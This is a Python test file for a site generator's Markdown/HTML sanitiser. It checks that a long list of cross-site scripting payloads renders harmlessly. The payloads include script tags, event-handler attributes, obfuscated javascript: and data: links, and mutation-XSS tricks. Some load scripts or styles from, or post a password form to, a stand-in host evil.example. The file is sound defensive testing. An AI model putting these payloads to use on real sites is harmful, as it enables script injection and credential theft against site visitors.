"""Nothing that prose says can run, load or pretend on a page."""

from __future__ import annotations

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from sitegen.prose.render import render
from sitegen.prose.sanitise import ATTRIBUTES, CLASSES, TAGS, sanitise
from sitegen.prose.urls import safe_url
from tests.prose.reading import page_of

ATTACKS = (
    "<script>alert(1)</script>",
    "<ScRiPt src=//evil.example/x.js></sCrIpT>",
    "<script\n>alert(1)</script\n>",
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<style>@import '//evil.example';</style>",
    "<form action=//evil.example><input name=password><button>Go</button></form>",
    "<input autofocus onfocus=alert(1)>",
    "<b onclick=alert(1)>x</b>",
    "<b style='background:url(//evil.example)'>x</b>",
    "<details open ontoggle=alert(1)>x</details>",
    "<a href=javascript:alert(1)>x</a>",
    "<a href='java\nscript:alert(1)'>x</a>",
    "<a href='&#106;avascript:alert(1)'>x</a>",
    "<a href='javascript&colon;alert(1)'>x</a>",
    "<a href=' javascript:alert(1)'>x</a>",
    '<a href="data:text/html;base64,PHNjcmlwdD4=">x</a>',
    '<a href="vbscript:msgbox(1)">x</a>',
    '<a href="//evil.example/">x</a>',
    '<a href="https://x.example" onclick="alert(1)" target="_top" id="nav" name="nav">x</a>',
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](<java\tscript:alert(1)>)",
    "[x](java&#x0A;script:alert(1))",
    "[x](javascript&colon;alert&lpar;1&rpar;)",
    "[x](&#x6A;avascript:alert(1))",
    "[x](\\javascript:alert(1))",
    "[x](data:text/html,<script>alert(1)</script>)",
    "[x](blob:https://x.example/1)",
    "[x](//evil.example)",
    "[x](/\\evil.example)",
    "[x](\\\\evil.example)",
    "[x](/\t/evil.example)",
    "[x][r]\n\n[r]: javascript:alert(1)",
    "[x]\n\n[x]: <data:text/html,x>",
    "![x](javascript:alert(1))",
    '![x" onerror="alert(1)](https://x.example/a.png)',
    '[x](https://x.example "t\\" onmouseover=\\"alert(1)")',
    "[x](https://x.example'onclick='alert(1))",
    "<javascript:alert(1)>",
    '<https://x.example/"onclick=alert(1)>',
    'https://x.example/"onmouseover="alert(1)',
    "`<script>alert(1)</script>`",
    "```\n</code></pre><script>alert(1)</script>\n```",
    "<b <script>alert(1)</script>>x</b>",
    "<<script>script>alert(1)<</script>/script>",
    "<!--><script>alert(1)</script>-->",
    "<!-- --!><script>alert(1)</script>",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?php echo 1 ?><script>alert(1)</script>",
    "<details><summary><script>alert(1)</script></summary>\n\n<script>alert(1)</script>\n</details>",
    "| <script>x</script> | b |\n|---|---|\n| <img src=x onerror=x> | <b onclick=x> |",
    "# <script>alert(1)</script> {: onclick=alert(1) }",
    "- [x] <input type=text onfocus=alert(1)>",
    "\x02wzxhzdk:0\x03<script>alert(1)</script>",
    "\x02klzzwxh:0000\x03[x](javascript:alert(1))",
    "</div></article></body><script>alert(1)</script>",
    "<base href=//evil.example>",
    "<meta http-equiv=refresh content=0;url=//evil.example>",
    "<link rel=stylesheet href=//evil.example>",
    "<object data=x></object><embed src=x><template><script>alert(1)</script></template>",
    "\ud800<script>alert(1)</script>",
    "<bare><script>alert(1)</script></bare>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
)

PIECES = st.sampled_from(
    [*"[]()!<>*_~`|-#&\\:./@\"'= \n\tax1é", "](", "![", "<a href=", "<b>", "</b>", "<!--", "-->",
     "http://a.b", "a@b.c", "\n- ", "\n> ", "\n1. ", "\n```\n", "~~", "**", "&amp;", "\n[a]: b\n",
     "\n\n", "|-", "<details>", "</details>", "<summary>", "\n    ", "[x] ", "\n---\n", "\n===\n",
     "\n|a|\n|-|\n", "javascript:", "<script>", "\x02klzzwxh:0000\x03", "\x02wzxhzdk:0\x03",
     "<bare>", "\u202e", "\u2028", "\ud800"]
)  # fmt: skip


def assert_harmless(html: str) -> None:
    page = page_of(html)
    assert not page.comments
    for tag, attributes in page.tags:
        assert tag in TAGS
        allowed = ATTRIBUTES.get(tag, set()) | ({"class"} if tag in CLASSES else set())
        allowed |= {"rel"} if tag == "a" else {"type"} if tag == "input" else set()
        if attributes.get("class") == "table":
            assert attributes.pop("tabindex", None) == "0"
        assert set(attributes) <= allowed, (tag, attributes)
        if tag == "a" and "href" in attributes:
            assert attributes["rel"] == "nofollow noopener"
            href = attributes["href"] or ""
            assert safe_url(href) == href
        if tag == "input":
            assert attributes["type"] == "checkbox"
        if "class" in attributes:
            assert set((attributes["class"] or "").split()) <= CLASSES[tag]


@pytest.mark.parametrize("attack", ATTACKS)
def test_an_attack_is_harmless_on_the_page(attack: str) -> None:
    assert_harmless(render(attack))
    assert_harmless(render(f"Before {attack} after\n\n- {attack}\n\n> {attack}"))


@pytest.mark.parametrize("attack", ATTACKS)
def test_the_last_gate_alone_stops_an_attack_too(attack: str) -> None:
    assert_harmless(sanitise(attack.encode("utf-8", "replace").decode()))


@settings(max_examples=400, deadline=None)
@given(st.lists(PIECES, max_size=60).map("".join))
def test_whatever_the_marks_the_page_is_harmless_and_whole(text: str) -> None:
    html = render(text)

    assert_harmless(html)
    assert "\x02" not in html
    assert "klzzwxh" not in html or "klzzwxh" in text


@settings(max_examples=200, deadline=None)
@given(st.text(max_size=300))
def test_any_text_is_rendered(text: str) -> None:
    assert_harmless(render(text))


def test_a_table_can_be_scrolled_from_the_keyboard_and_nothing_else_is_in_the_way() -> None:
    box = '<div class="table" tabindex="0">'
    assert render("| a |\n|---|\n| b |").startswith(box)
    assert sanitise('<div class="table" tabindex="7">x</div>') == f"{box}x</div>"
    for other in ('<div tabindex="0">', '<div class="other" tabindex="0">', '<b tabindex="0">'):
        assert "tabindex" not in sanitise(f"{other}x")
    title = sanitise("""<a title='<div class="table">'>x</a>""")
    assert "tabindex" not in title


def test_a_box_from_content_cannot_be_filled_in() -> None:
    assert "<input" not in render("<input type=text name=q>")
    assert sanitise("<input type=text name=q>") == '<input type="checkbox">'
